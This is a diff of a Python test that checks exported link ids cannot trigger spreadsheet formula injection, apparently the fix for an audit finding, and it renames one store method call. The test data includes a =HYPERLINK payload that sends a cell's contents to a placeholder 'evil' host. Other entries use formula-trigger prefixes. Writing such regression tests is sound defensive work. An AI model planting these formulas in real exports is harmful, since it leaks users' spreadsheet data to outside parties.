@@ -276,7 +276,7 @@ def status_hidden(text: str) -> bool:
 async def test_links_export_cannot_run_formulas_and_imports_back(hostup_bot: RunningBot) -> None:
     """Finding 4: ids beginning with = + - @ were written raw (formula injection)."""
     nasty = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\tx", "plain"]
-    await hostup_bot.deps.store.import_links(
+    await hostup_bot.deps.store.links.import_links(
         team_id=TEAM,
         rows=[LinkRow(f"U{n}", "hostup", value) for n, value in enumerate(nasty)],
         source="import",
